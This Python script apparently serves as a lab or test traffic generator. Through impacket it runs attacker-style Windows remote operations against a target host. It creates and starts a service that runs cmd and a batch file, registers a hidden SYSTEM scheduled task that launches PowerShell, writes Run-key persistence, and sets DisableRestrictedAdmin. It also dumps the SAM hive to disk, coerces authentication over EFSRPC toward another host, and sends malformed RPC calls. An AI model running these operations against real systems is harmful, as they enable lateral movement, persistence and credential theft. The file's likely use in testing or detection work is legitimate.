#!/usr/bin/python3
"""Remote administration as attackers do it, through impacket's client.

usage: attack.py STORY [--over smb1|smb2|tcp] [--level none|connect|integrity|privacy]
                 [--user USER] [--target ADDRESS]

Stories: service, task, at, registry, coerce, fault, large, pipelined, demo.
Prints one line per call that answered with something else than success; that is often the point.
"""

import argparse
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "server"))

from impacket.dcerpc.v5 import atsvc, rpcrt, rrp, scmr, transport, tsch
from impacket.dcerpc.v5.dtypes import NULL
from impacket.smb import SMB_DIALECT
from impacket.uuid import uuidtup_to_bin

import interfaces

PASSWORDS = {"jdoe": "Winter.2026", "svcbackup": "Backup.2026"}
LEVELS = {"none": rpcrt.RPC_C_AUTHN_LEVEL_NONE, "connect": rpcrt.RPC_C_AUTHN_LEVEL_CONNECT,
          "integrity": rpcrt.RPC_C_AUTHN_LEVEL_PKT_INTEGRITY,
          "privacy": rpcrt.RPC_C_AUTHN_LEVEL_PKT_PRIVACY}
EFSRPC = uuidtup_to_bin(("df1941c5-fe89-4e79-bf10-463657acf44d", "1.0"))
EFSRPC_LSA = uuidtup_to_bin(("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0"))
NETDFS = uuidtup_to_bin(("4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0"))

TASK_XML = """<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <Triggers>
    <CalendarTrigger>
      <StartBoundary>2026-11-21T15:20:35</StartBoundary>
      <ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay>
    </CalendarTrigger>
  </Triggers>
  <Principals>
    <Principal id="LocalSystem"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal>
  </Principals>
  <Settings><Hidden>true</Hidden><Enabled>true</Enabled></Settings>
  <Actions Context="LocalSystem">
    <Exec>
      <Command>powershell.exe</Command>
      <Arguments>-NoProfile -WindowStyle Hidden -File C:\\ProgramData\\sync.ps1</Arguments>
    </Exec>
  </Actions>
</Task>
\0"""


class Host:
    """The attacked host: connects and binds as the options say."""

    def __init__(self, options):
        self.options = options
        self.session = None  # The SMB session that every pipe of a story shares.

    def bind(self, pipe, interface):
        target, user = self.options.target, self.options.user
        if self.options.over == "tcp":
            connection = transport.DCERPCTransportFactory(f"ncacn_ip_tcp:{target}[49700]")
        else:
            connection = transport.SMBTransport(target, filename=f"\\{pipe}")
            if self.session:
                connection = transport.SMBTransport(
                    target, filename=f"\\{pipe}", smb_connection=self.session)
            elif self.options.over == "smb1":
                connection.preferred_dialect(SMB_DIALECT)
        connection.set_credentials(user, PASSWORDS[user], "CONTOSO")
        rpc = connection.get_dce_rpc()
        if self.options.level != "none":
            rpc.set_credentials(user, PASSWORDS[user], "CONTOSO")
            rpc.set_auth_level(LEVELS[self.options.level])
        rpc.connect()
        if self.options.over != "tcp" and not self.session:
            self.session = connection.get_smb_connection()
        rpc.bind(interface)
        return rpc


def attempt(call, *arguments, **named):
    """Makes a call; an error status is a result here, not an end."""
    try:
        return call(*arguments, **named)
    except Exception as error:  # impacket raises one class per protocol for a non-zero status.
        print(f"{call.__name__}: {str(error).splitlines()[0]}")
        return getattr(error, "packet", None)


def service(host):
    rpc = host.bind("svcctl", scmr.MSRPC_UUID_SCMR)
    manager = scmr.hROpenSCManagerW(rpc, "\\\\FS1\0", "ServicesActive\0")["lpScHandle"]
    spooler = scmr.hROpenServiceW(rpc, manager, "Spooler\0")["lpServiceHandle"]
    scmr.hRQueryServiceStatus(rpc, spooler)
    scmr.hRQueryServiceConfigW(rpc, spooler)
    scmr.hRCloseServiceHandle(rpc, spooler)
    attempt(scmr.hROpenServiceW, rpc, manager, "Updater\0")
    created = scmr.hRCreateServiceW(
        rpc, manager, "Updater\0", "Windows Update Helper\0",
        lpBinaryPathName="%COMSPEC% /Q /c echo whoami /all ^> "
                         "\\\\127.0.0.1\\ADMIN$\\Temp\\o.txt & cmd.exe /c C:\\ProgramData\\u.bat\0",
        dwStartType=scmr.SERVICE_DEMAND_START)["lpServiceHandle"]
    attempt(scmr.hRStartServiceW, rpc, created, 2, ["Updater\0", "-silent\0"])
    scmr.hRQueryServiceStatus(rpc, created)
    scmr.hRChangeServiceConfigW(
        rpc, created, scmr.SERVICE_NO_CHANGE, scmr.SERVICE_AUTO_START, scmr.SERVICE_NO_CHANGE,
        "C:\\ProgramData\\u.exe\0", NULL, NULL, NULL, 0, NULL, NULL, 0, "Windows Update\0")
    attempt(scmr.hRControlService, rpc, created, scmr.SERVICE_CONTROL_STOP)
    scmr.hRDeleteService(rpc, created)
    scmr.hRCloseServiceHandle(rpc, created)
    scmr.hRCloseServiceHandle(rpc, manager)


def task(host):
    rpc = host.bind("atsvc", tsch.MSRPC_UUID_TSCHS)
    attempt(tsch.hSchRpcHighestVersion, rpc)
    tsch.hSchRpcRegisterTask(rpc, "\\Microsoft\\Windows\\Sync\0", TASK_XML, tsch.TASK_CREATE, NULL,
                             tsch.TASK_LOGON_NONE)
    attempt(tsch.hSchRpcEnumTasks, rpc, "\\\0")
    attempt(tsch.hSchRpcRetrieveTask, rpc, "\\Microsoft\\Windows\\Sync\0")
    tsch.hSchRpcRun(rpc, "\\Microsoft\\Windows\\Sync\0")
    attempt(tsch.hSchRpcGetLastRunInfo, rpc, "\\Microsoft\\Windows\\Sync\0")
    tsch.hSchRpcDelete(rpc, "\\Microsoft\\Windows\\Sync\0")
    attempt(tsch.hSchRpcRun, rpc, "\\Microsoft\\Windows\\Sync\0")


def at(host):
    rpc = host.bind("atsvc", atsvc.MSRPC_UUID_ATSVC)
    info = atsvc.AT_INFO()
    info["JobTime"] = (15 * 60 + 25) * 60000  # Milliseconds after midnight.
    info["DaysOfMonth"], info["DaysOfWeek"], info["Flags"] = 0, 0x1F, 0x09
    info["Command"] = "cmd.exe /c C:\\ProgramData\\u.bat\0"
    number = atsvc.hNetrJobAdd(rpc, "\\\\FS1\0", info)["pJobId"]
    attempt(atsvc.hNetrJobEnum, rpc, "\\\\FS1\0")
    atsvc.hNetrJobDel(rpc, "\\\\FS1\0", number, number)
    attempt(atsvc.hNetrJobDel, rpc, "\\\\FS1\0", 7, 9)


def registry(host):
    rpc = host.bind("winreg", rrp.MSRPC_UUID_RRP)
    root = rrp.hOpenLocalMachine(rpc)["phKey"]
    rrp.hBaseRegGetVersion(rpc, root)
    run = rrp.hBaseRegOpenKey(
        rpc, root, "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\0")["phkResult"]
    rrp.hBaseRegQueryInfoKey(rpc, run)
    rrp.hBaseRegQueryValue(rpc, run, "VMTray\0")
    rrp.hBaseRegSetValue(rpc, run, "Updater\0", rrp.REG_SZ,
                         "C:\\Windows\\System32\\rundll32.exe C:\\ProgramData\\u.dll,Start\0")
    rrp.hBaseRegQueryValue(rpc, run, "Updater\0")
    attempt(rrp.hBaseRegDeleteValue, rpc, run, "Missing\0")
    rrp.hBaseRegCloseKey(rpc, run)
    lsa = rrp.hBaseRegOpenKey(rpc, root, "SYSTEM\\CurrentControlSet\\Control\\Lsa\0")["phkResult"]
    rrp.hBaseRegSetValue(rpc, lsa, "DisableRestrictedAdmin\0", rrp.REG_DWORD, 0)
    rrp.hBaseRegQueryValue(rpc, lsa, "LmCompatibilityLevel\0")
    rrp.hBaseRegCloseKey(rpc, lsa)
    for index in range(10):
        if attempt(rrp.hBaseRegEnumKey, rpc, root, index)["ErrorCode"] != 0:
            break
    attempt(rrp.hBaseRegOpenKey, rpc, root, "SOFTWARE\\NoSuchKey\0")
    sam = rrp.hBaseRegOpenKey(rpc, root, "SAM\0")["phkResult"]
    rrp.hBaseRegSaveKey(rpc, sam, "..\\Temp\\vssadm.tmp\0")
    rrp.hBaseRegCloseKey(rpc, sam)
    new = rrp.hBaseRegCreateKey(rpc, root, "SOFTWARE\\Updater\\State\0")["phkResult"]
    rrp.hBaseRegSetValue(rpc, new, "Interval\0", rrp.REG_DWORD, 3600)
    rrp.hBaseRegCloseKey(rpc, new)
    rrp.hBaseRegCloseKey(rpc, root)


def coerce(host, few=False):
    for pipe, interface in (("efsrpc", EFSRPC), ("lsarpc", EFSRPC_LSA))[:1 if few else 2]:
        rpc = host.bind(pipe, interface)
        path = "\\\\10.77.0.66\\share\\settings.ini\0"
        request = interfaces.EfsRpcOpenFileRaw()
        request["FileName"], request["Flags"] = path, 0
        attempt(rpc.request, request)
        if few:
            continue
        request = interfaces.EfsRpcFileName()
        request["FileName"] = path
        for request.opnum in (4, 6, 7):
            rpc.call(request.opnum, request)
            rpc.recv()
        request = interfaces.EfsRpcDecryptFileSrv()
        request["FileName"], request["OpenFlag"] = "C:\\Users\\Public\\notes.txt\0", 0
        rpc.call(5, request)
        rpc.recv()


def fault(host):
    """Opnums out of range, unreadable stubs, an interface the server does not have."""
    rpc = host.bind("svcctl", scmr.MSRPC_UUID_SCMR)
    for opnum, stub in ((200, b""), (15, b"\x01"), (12, bytes(24))):
        rpc.call(opnum, stub)
        attempt(rpc.recv)
    manager = attempt(scmr.hROpenSCManagerW, rpc)["lpScHandle"]
    scmr.hRCloseServiceHandle(rpc, manager)
    attempt(scmr.hRCloseServiceHandle, rpc, manager)
    attempt(host.bind, "svcctl", NETDFS)


def large(host):
    """A task of 30 kB: requests and responses in many fragments."""
    rpc = host.bind("atsvc", tsch.MSRPC_UUID_TSCHS)
    filler = "".join(f"    <Exec><Command>step{n:03d}.exe</Command></Exec>\n" for n in range(300))
    xml = TASK_XML.replace("  </Actions>", filler + "  </Actions>")
    tsch.hSchRpcRegisterTask(rpc, "\\Large\0", xml, tsch.TASK_CREATE, NULL, tsch.TASK_LOGON_NONE)
    got = tsch.hSchRpcRetrieveTask(rpc, "\\Large\0")["pXml"]
    if got != xml:
        sys.exit(f"large: {len(xml)} characters sent, {len(got)} came back")
    tsch.hSchRpcDelete(rpc, "\\Large\0")


def pipelined(host):
    """Several requests sent before the first response is read."""
    rpc = host.bind("svcctl", scmr.MSRPC_UUID_SCMR)
    manager = scmr.hROpenSCManagerW(rpc)["lpScHandle"]
    names = ("Spooler", "Schedule", "NoSuchService", "W32Time")
    for name in names:
        request = scmr.ROpenServiceW()
        request["hSCManager"], request["lpServiceName"] = manager, name + "\0"
        request["dwDesiredAccess"] = scmr.SERVICE_QUERY_STATUS
        rpc.call(request.opnum, request)
    for _ in names:
        rpc.recv()
    scmr.hRCloseServiceHandle(rpc, manager)


def demo(host):
    """The story of ./demo: look around, run a command as a service, persist, coerce."""
    rpc = host.bind("svcctl", scmr.MSRPC_UUID_SCMR)
    manager = scmr.hROpenSCManagerW(rpc, "\\\\FS1\0", "ServicesActive\0")["lpScHandle"]
    created = scmr.hRCreateServiceW(
        rpc, manager, "Updater\0", "Windows Update Helper\0",
        lpBinaryPathName="C:\\Windows\\System32\\cmd.exe /Q /c whoami /all > "
                         "\\\\127.0.0.1\\ADMIN$\\Temp\\o.txt 2>&1\0",
        dwStartType=scmr.SERVICE_DEMAND_START)["lpServiceHandle"]
    attempt(scmr.hRStartServiceW, rpc, created)
    scmr.hRDeleteService(rpc, created)
    scmr.hRCloseServiceHandle(rpc, created)
    scmr.hRCloseServiceHandle(rpc, manager)

    rpc = host.bind("atsvc", tsch.MSRPC_UUID_TSCHS)
    tsch.hSchRpcRegisterTask(rpc, "\\Microsoft\\Windows\\Sync\0", TASK_XML, tsch.TASK_CREATE, NULL,
                             tsch.TASK_LOGON_NONE)
    tsch.hSchRpcRun(rpc, "\\Microsoft\\Windows\\Sync\0")

    rpc = host.bind("winreg", rrp.MSRPC_UUID_RRP)
    root = rrp.hOpenLocalMachine(rpc)["phKey"]
    run = rrp.hBaseRegOpenKey(
        rpc, root, "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\0")["phkResult"]
    rrp.hBaseRegSetValue(rpc, run, "Updater\0", rrp.REG_SZ,
                         "C:\\Windows\\System32\\rundll32.exe C:\\ProgramData\\u.dll,Start\0")
    rrp.hBaseRegCloseKey(rpc, run)
    sam = rrp.hBaseRegOpenKey(rpc, root, "SAM\0")["phkResult"]
    rrp.hBaseRegSaveKey(rpc, sam, "..\\Temp\\vssadm.tmp\0")
    rrp.hBaseRegCloseKey(rpc, sam)
    rrp.hBaseRegCloseKey(rpc, root)

    coerce(host, few=True)
    # One call that nobody but the two ends can read.
    host.options.over, host.options.level = "tcp", "privacy"
    rpc = host.bind(None, scmr.MSRPC_UUID_SCMR)
    manager = scmr.hROpenSCManagerW(rpc, "\\\\FS1\0")["lpScHandle"]
    scmr.hRCloseServiceHandle(rpc, manager)


STORIES = {function.__name__: function for function in
           (service, task, at, registry, coerce, fault, large, pipelined, demo)}


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("stories", nargs="+", choices=STORIES)
    parser.add_argument("--over", choices=("smb1", "smb2", "tcp"), default="smb2")
    parser.add_argument("--level", choices=LEVELS, default="none")
    parser.add_argument("--user", choices=PASSWORDS, default="jdoe")
    parser.add_argument("--target", default="10.77.0.4")
    options = parser.parse_args()
    host = Host(options)
    for story in options.stories:
        STORIES[story](host)
    if host.session:
        host.session.close()


if __name__ == "__main__":
    main()
